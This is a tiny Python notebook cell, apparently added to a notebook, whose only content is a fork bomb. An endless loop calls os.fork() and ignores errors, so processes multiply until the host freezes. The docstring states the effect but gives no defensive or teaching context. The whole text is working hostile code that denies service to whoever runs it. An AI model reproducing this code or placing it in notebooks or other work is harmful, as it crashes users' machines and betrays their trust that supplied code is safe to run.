"""Multiplies without end while a cell runs."""

# %% added
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
